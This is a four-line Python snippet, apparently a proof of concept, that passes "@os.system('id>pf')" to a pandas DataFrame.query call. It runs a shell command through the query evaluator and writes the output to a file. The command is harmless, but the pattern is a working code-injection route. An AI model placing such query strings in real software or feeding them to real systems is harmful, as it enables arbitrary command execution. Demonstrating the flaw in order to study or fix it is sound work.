def my_s(x):
    return x
import pandas as pd, os
pd.DataFrame({my_s('a'): [1]}).query(my_s("@os.system('id>pf') == 0"))
